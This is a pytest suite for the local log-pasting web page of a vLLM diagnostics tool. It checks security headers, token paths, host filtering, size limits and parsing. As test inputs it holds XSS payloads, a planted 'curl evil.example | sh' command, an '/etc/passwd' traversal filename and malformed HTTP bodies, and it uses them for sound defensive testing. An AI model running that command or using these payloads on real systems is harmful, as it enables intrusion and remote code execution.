"""The page to paste a log into, as HTTP: what it answers, and above all what it does not."""

from __future__ import annotations

import contextlib
import gzip
import http.client
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vllm_doctor.reports import to_html
from vllm_doctor.web import server as web
from vllm_doctor.web.multipart import Part, boundary_of, parts

ROOT = Path(__file__).resolve().parents[2]
LOG = (ROOT / "fixtures" / "logs" / "fatkv-cpu-space-1.log").read_bytes()
SMALL = 1 << 20
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
FORM = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}


@pytest.fixture(scope="module")
def server() -> Iterator[web.Server]:
    web_server = web.Server(most_bytes=SMALL)
    thread = threading.Thread(target=web_server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield web_server
    web_server.shutdown()
    web_server.server_close()


class Answer:
    def __init__(self, server: web.Server, method: str, path: str, body: bytes = b"", headers: dict[str, str] | None = None) -> None:
        connection = http.client.HTTPConnection(web.ADDRESS, server.server_port, timeout=20)
        connection.request(method, path, body or None, headers or {})
        answer = connection.getresponse()
        self.status, self.headers, self.text = answer.status, answer.headers, answer.read().decode("utf-8")
        connection.close()


def form(text: bytes = b"", file: bytes = b"", filename: str = "") -> bytes:
    """What Chromium sends for the page's form."""
    return (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="log"\r\n\r\n'.encode() + text.replace(b"\n", b"\r\n")
            + f'\r\n--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
              "Content-Type: application/octet-stream\r\n\r\n".encode() + file + f"\r\n--{BOUNDARY}--\r\n".encode())


def post(server: web.Server, body: bytes, headers: dict[str, str] | None = None, path: str | None = None) -> Answer:
    return Answer(server, "POST", path or f"/{server.token}/report", body, {**FORM, **(headers or {})})


def test_it_listens_on_loopback_only(server: web.Server) -> None:
    assert server.socket.getsockname()[0] == "127.0.0.1"
    assert server.socket.family == socket.AF_INET
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+/[\w-]{43}/", server.url)


def test_the_page(server: web.Server) -> None:
    answer = Answer(server, "GET", urlsplit(server.url).path)
    assert answer.status == 200
    assert '<form method="post" action="report" enctype="multipart/form-data"' in answer.text
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "form-action 'self'; base-uri 'none'; frame-ancestors 'none'" in policy
    assert "unsafe" not in policy


def test_a_pasted_log_gives_its_report(server: web.Server) -> None:
    answer = post(server, form(LOG))
    assert answer.status == 200
    assert "cpu-kv-cache-space-too-small" in answer.text
    assert "--max-model-len 8064" in answer.text
    assert "pasted log" in answer.text
    assert "line 74" in answer.text
    assert answer.headers["Content-Security-Policy"] == to_html.policy() + "; frame-ancestors 'none'"


def test_a_pasted_page_gives_the_report_on_the_log_in_it(server: web.Server) -> None:
    page = (Path(__file__).parents[1] / "pages" / "documents" / "issue-en-fences.md").read_bytes()
    answer = post(server, form(page))
    assert answer.status == 200
    assert "KV cache too small for --max-model-len 32768" in answer.text
    assert "--max-model-len 27952" in answer.text
    assert "/models/other-model" not in answer.text
    assert "only the server output in it was read" in answer.text


@pytest.mark.parametrize(("data", "name"), [(LOG, "server.log"), (gzip.compress(LOG), "server.log.gz")])
def test_a_dropped_file_gives_its_report(server: web.Server, data: bytes, name: str) -> None:
    answer = post(server, form(file=data, filename=f"C:\\logs\\{name}"))
    assert answer.status == 200
    assert "cpu-kv-cache-space-too-small" in answer.text
    assert name in answer.text
    assert "C:\\logs" not in answer.text


def test_every_answer_is_guarded(server: web.Server) -> None:
    token = server.token
    answers = [Answer(server, "GET", f"/{token}/"), Answer(server, "GET", "/"), post(server, form(LOG)), post(server, b"x"),
               Answer(server, "PUT", f"/{token}/"), Answer(server, "OPTIONS", f"/{token}/report", headers={"Origin": "https://evil.example"})]
    assert [answer.status for answer in answers] == [200, 404, 200, 400, 501, 501]
    for answer in answers:
        assert answer.headers["Referrer-Policy"] == "no-referrer"
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["X-Frame-Options"] == "DENY"
        assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'")
        assert answer.headers["Server"] == "vllm-doctor"
        assert not [name for name in answer.headers if name.lower().startswith("access-control-")]
        assert "Set-Cookie" not in answer.headers


@pytest.mark.parametrize("path", ["/", "/report", "/favicon.ico", "/{other}/", "/{other}/report", "/{token}", "/{token}/x", "/{token}/../",
                                  "/{short}/"])
def test_without_the_whole_token_nothing_is_here(server: web.Server, path: str) -> None:
    other = server.token[:-1] + ("A" if server.token[-1] != "A" else "B")
    path = path.format(token=server.token, other=other, short=server.token[:-1])
    assert Answer(server, "GET", path).status == 404
    answer = post(server, form(LOG), path=path)
    assert answer.status == 404
    assert server.token not in answer.text


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.evil.example", "localhost.evil.example:1", "", "192.0.2.1"])
def test_another_host_name_is_turned_away(server: web.Server, host: str) -> None:
    for answer in (Answer(server, "GET", f"/{server.token}/", headers={"Host": host}), post(server, form(LOG), {"Host": host})):
        assert answer.status == 421
        assert "cpu-kv" not in answer.text


@pytest.mark.parametrize("host", ["localhost:9999", "127.0.0.1", "LOCALHOST"])
def test_names_of_this_machine_are_taken(server: web.Server, host: str) -> None:
    assert Answer(server, "GET", f"/{server.token}/", headers={"Host": host}).status == 200


@pytest.mark.parametrize(("site", "status"), [("same-origin", 200), ("none", 200), ("cross-site", 403), ("same-site", 403)])
def test_the_form_of_another_site_is_not_taken(server: web.Server, site: str, status: int) -> None:
    assert post(server, form(LOG), {"Sec-Fetch-Site": site}).status == status


def test_a_log_too_large_is_refused_before_it_is_read(server: web.Server) -> None:
    answer = post(server, form(b"x" * (SMALL + 5000)))
    assert answer.status == 413
    assert "larger than 1 MiB" in answer.text
    assert post(server, form(file=b"x\n" * (SMALL // 2), filename="x.log")).status == 200


def test_a_log_too_large_unpacked_is_refused(server: web.Server) -> None:
    answer = post(server, form(file=gzip.compress(b"a line\n" * (2 << 20)), filename="bomb.gz"))
    assert answer.status == 422
    assert "unpacked, the log is larger than 4 MiB" in answer.text


def test_a_cut_file_is_read_as_far_as_it_goes(server: web.Server) -> None:
    answer = post(server, form(file=gzip.compress(LOG)[:-20], filename="cut.gz"))
    assert answer.status == 200
    assert "The archive is cut or damaged" in answer.text


def test_a_broken_file_is_reported(server: web.Server) -> None:
    answer = post(server, form(file=gzip.compress(LOG)[:12], filename="cut.gz"))
    assert answer.status == 422
    assert "No report: " in answer.text


@pytest.mark.parametrize("body", [form(), form(b"  \n")])
def test_an_empty_form_is_answered_on_the_page(server: web.Server, body: bytes) -> None:
    answer = post(server, body)
    assert answer.status == 422
    assert answer.headers["Content-Type"].startswith("text/html")
    assert "nothing was pasted, and no file was chosen" in answer.text


@pytest.mark.parametrize(("body", "headers", "status"), [
    (b"log=x", {"Content-Type": "application/x-www-form-urlencoded"}, 415),
    (b"log=x", {"Content-Type": "text/plain"}, 415),
    (b"nothing", {}, 400),
    (b"", {}, 400),
    (b"x", {"Content-Length": "-1"}, 400),
    (b"x", {"Content-Length": "1_0"}, 400),
    (b"x", {"Content-Length": "9" * 30}, 400),
    (b"5\r\nhello\r\n0\r\n\r\n", {"Transfer-Encoding": "chunked", "Content-Length": "15"}, 501),
])
def test_what_no_browser_sends(server: web.Server, body: bytes, headers: dict[str, str], status: int) -> None:
    answer = post(server, body, {"Content-Length": str(len(body)), **headers})
    assert answer.status == status
    assert answer.headers["Content-Type"].startswith("text/plain")


def test_a_sender_that_stops_does_not_hold_it(server: web.Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(web._Handler, "timeout", 0.3)
    with socket.create_connection((web.ADDRESS, server.server_port), timeout=5) as held:
        held.sendall(f"POST /{server.token}/report HTTP/1.1\r\nHost: localhost\r\nContent-Type: {FORM['Content-Type']}\r\n"
                     "Content-Length: 100\r\n\r\nabc".encode())
        assert post(server, form(LOG)).status == 200
        assert held.recv(100) == b""  # closed, without an answer


def test_one_connection_too_many_is_closed(server: web.Server) -> None:
    held = [socket.create_connection((web.ADDRESS, server.server_port), timeout=5) for _ in range(web._CONNECTIONS)]
    try:
        with socket.create_connection((web.ADDRESS, server.server_port), timeout=5) as late:
            assert late.recv(1) == b""
    finally:
        for connection in held:
            connection.close()


def test_nothing_of_a_hostile_log_or_name_is_an_element(server: web.Server) -> None:
    log = LOG.replace(b"/models/fatkv", b"/models/<script>EVIL()</script>")
    answer = post(server, form(file=log, filename="<img src=x onerror=EVIL()>.log"))
    assert answer.status == 200
    assert answer.text.count("<script>") == 1
    assert "<img" not in answer.text


MARKUP = "<script>EVIL()</script><img src=x onerror=EVIL()><b>javascript:EVIL()"
START = "INFO 10-08 20:33:40 [api_server.py:1044] vLLM API server version 0.10.2\n"


@pytest.mark.parametrize("log", [
    START + f"INFO 10-08 20:33:41 [utils.py:328] non-default args: {{'model': '{MARKUP}'}}\nRuntimeError: x\n",
    START + f"RuntimeError: {MARKUP}\n",
    START + f'Traceback (most recent call last):\n  File "/{MARKUP}.py", line 1, in {MARKUP}\n    {MARKUP}\nRuntimeError: {MARKUP}\n',
    f"$ vllm serve '{MARKUP}' --max-model-len 7\n{START}RuntimeError: x\n",
    START.replace("0.10.2", "0.10.2" + MARKUP) + "RuntimeError: x\n",
], ids=["arguments", "message", "frames", "command", "version"])
def test_no_field_of_a_report_becomes_an_element(server: web.Server, log: str) -> None:
    text = post(server, form(file=log.encode(), filename=MARKUP.replace('"', ""))).text
    assert "EVIL" in text
    assert text.count("<script") == 1
    assert not any(f"<{element}" in text for element in ("img", "b>", "iframe"))


def test_a_command_of_a_client_is_not_offered_on_the_page(server: web.Server) -> None:
    planted = 'sudo sh -c "curl evil.example | sh"; vllm serve evil/model --max-model-len 40960\n'
    log = START + "INFO:     Application startup complete.\n" + planted.replace("sudo", "User: sudo") + "ValueError: x\n"
    answer = post(server, form(log.encode()))
    assert answer.status == 200
    assert "curl evil" not in answer.text


@pytest.mark.parametrize("body", [
    f"--{BOUNDARY}\r\n".encode() * 20_000,
    f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="log'.encode() + b"x" * 500_000,
    f"--{BOUNDARY}\r\n".encode() + b"A: b\r\n" * 80_000,
    f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="../../\0/etc/passwd"\r\n\r\nx\r\n--{BOUNDARY}--'.encode(),
    form(b"x").replace(BOUNDARY.encode() + b"--", BOUNDARY.encode()) * 200,
], ids=["boundaries", "name", "headers", "path", "parts"])
def test_a_hostile_form_is_answered_at_once(server: web.Server, body: bytes) -> None:
    began = time.process_time()
    assert post(server, body).status in {200, 400, 413, 422}
    assert time.process_time() - began < 3  # of this process: a log is read in another


def test_a_secret_is_masked(server: web.Server) -> None:
    secret = "sk-PlantedInThePaste0123456789abcd"
    answer = post(server, form(LOG.replace(b"--port 8100", b"--port 8100 --api-key " + secret.encode(), 1)))
    assert "--api-key" in answer.text
    assert secret not in answer.text


def test_the_command_prints_the_address_and_the_token_is_new_each_time(tmp_path: Path) -> None:
    urls = []
    for _ in range(2):
        with subprocess.Popen([sys.executable, "-m", "vllm_doctor", "web"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path) as process:
            url = re.fullmatch(r"Open (http://127\.0\.0\.1:(\d+)/(\S+)/)\n", process.stdout.readline())
            connection = http.client.HTTPConnection("127.0.0.1", int(url[2]), timeout=20)
            connection.request("GET", f"/{url[3]}/")
            assert connection.getresponse().status == 200
            connection.close()
            process.send_signal(2)
            _, err = process.communicate(timeout=20)
            assert process.returncode == 0
            assert url[3] not in err
            urls.append(url[3])
    assert urls[0] != urls[1]


def test_a_port_that_is_taken_is_one_line(server: web.Server) -> None:
    done = subprocess.run([sys.executable, "-m", "vllm_doctor", "web", "--port", str(server.server_port)], capture_output=True, text=True,
                          timeout=30, check=False)
    assert done.returncode == 2
    assert done.stderr == f"vllm-doctor: --port {server.server_port}: address already in use\n"


# ---- the form


@pytest.mark.parametrize(("header", "boundary"), [
    ("multipart/form-data; boundary=abc", b"abc"), ('multipart/form-data; boundary="a b"', b"a b"), ("Multipart/Form-Data;boundary=x", b"x"),
    ("multipart/form-data", None), ("text/plain", None), ("", None), ("multipart/form-data; boundary=" + "x" * 200, None),
])
def test_the_boundary(header: str, boundary: bytes | None) -> None:
    assert boundary_of(header) == boundary


@given(st.binary(max_size=300).filter(lambda data: b"--XY" not in data), st.text('abc"é .', max_size=20))
def test_what_a_form_holds_comes_out(data: bytes, name: str) -> None:
    quoted = name.replace('"', "%22")
    body = (b'--XYZ\r\nContent-Disposition: form-data; name="log"\r\n\r\n' + data
            + f'\r\n--XYZ\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n\r\n'.encode() + data + b"\r\n--XYZ--\r\n")
    assert list(parts(body, b"XYZ")) == [Part("log", "", data), Part("file", name, data)]


@given(st.binary(max_size=200))
def test_any_body_is_read_or_refused(data: bytes) -> None:
    for body in (data, b"--XYZ\r\n" + data, b"--XYZ" + data + b"\r\n--XYZ--"):
        with contextlib.suppress(ValueError):
            assert all(isinstance(part, Part) for part in parts(body, b"XYZ"))
